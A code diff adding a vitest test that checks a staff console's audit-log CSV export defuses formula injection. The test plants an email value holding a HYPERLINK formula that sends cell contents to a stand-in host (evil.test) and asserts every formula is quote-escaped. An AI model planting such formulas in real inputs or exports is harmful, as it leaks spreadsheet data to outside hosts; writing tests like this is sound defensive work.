@@ -1,6 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { openTestConsoleDb } from '@/lib/db/test-db';
 import type { ConsoleDb } from '@/lib/db/types';
+import { verifyStaffCredentials } from '@/lib/auth/credentials';
 import { insertAudit } from './entries';
 import { auditExportStream } from './export';
 
@@ -57,5 +58,17 @@ describe('the audit export', () => {
     expect(lines).toHaveLength(8);
     expect(lines.slice(1).every((line) => line.includes(',export.kept,') && line.includes(',denied,'))).toBe(true);
     expect(lines[1]).toContain('"{""n"":6}"');
+  });
+
+  it('defuses a formula planted on a later line of the sign-in email, unauthenticated, before it reaches the CSV', async () => {
+    const planted = 'victim@example.com\n=HYPERLINK("http://evil.test/?"&A1,"open")\r@SUM(1)';
+    expect(await verifyStaffCredentials(db, { email: planted, password: 'wrong', ip: '192.0.2.7' })).toMatchObject({
+      ok: false,
+    });
+    const text = await read(await auditExportStream(db, { action: 'auth.sign_in' }, 'csv'));
+    const row = text.slice(text.indexOf('\r\n') + 2);
+    expect(row).toContain(`"victim@example.com\n'=hyperlink(""http://evil.test/?""&a1,""open"")\r'@sum(1)"`);
+    // No line of the export, however a reader splits it, starts a formula.
+    for (const line of text.replace(/^\uFEFF/, '').split(/[\r\n]+/)) expect(line).not.toMatch(/^[ ]*[=+\-@]/);
   });
 });
